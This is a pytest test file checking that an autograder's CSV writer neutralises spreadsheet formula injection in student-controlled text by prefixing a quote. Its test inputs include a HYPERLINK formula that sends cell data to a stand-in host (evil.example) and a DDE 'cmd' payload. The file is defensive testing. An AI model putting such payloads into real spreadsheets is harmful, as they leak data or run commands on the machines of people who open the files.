"""Can any text a student controls become a live formula in a CSV we write?"""
import csv

import pytest

from autograder_instructor.grading import spreadsheet


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example?"&B2,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
    "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-", "-inf", "-nan"])
def test_a_formula_start_is_written_as_text(text, tmp_path):
    """Does every formula start (=, +, -, @, tab, CR) come back with a leading quote?"""
    path = spreadsheet.write_csv(tmp_path / "x.csv", ["id"], [[text]])
    with open(path, newline="") as f:
        (cell,) = list(csv.reader(f))[1]
    assert cell == "'" + text


@pytest.mark.parametrize("value", ["-1.5", "+2", "3", "0.25", "alice", "", "Zoë Ng", 7, -2.5])
def test_numbers_and_plain_text_stay_as_they_are(value):
    """Do negative scores stay numbers a spreadsheet can sum?"""
    assert spreadsheet.safe_cell(value) == value


def test_header_and_none_cells_are_safe():
    """Is a header made safe too, and is None an empty cell?"""
    assert spreadsheet.safe_row(["=x", None, 1]) == ["'=x", "", 1]


def test_a_csv_written_by_another_tool_is_made_safe(tmp_path):
    """Does make_safe (run on nbgrader export's grades.csv) neutralise a formula id once,
    and keep numbers and plain text as they were?"""
    path = tmp_path / "export.csv"
    path.write_text('student_id,score\n"=HYPERLINK(""http://evil.example?""&B2,""x"")",-1.5\nada,12\n')
    for _ in range(2):  # a second pass changes nothing
        spreadsheet.make_safe(path)
        with open(path, newline="") as f:
            rows = list(csv.reader(f))
        assert rows == [["student_id", "score"],
                        ["\'=HYPERLINK(\"http://evil.example?\"&B2,\"x\")", "-1.5"], ["ada", "12"]]
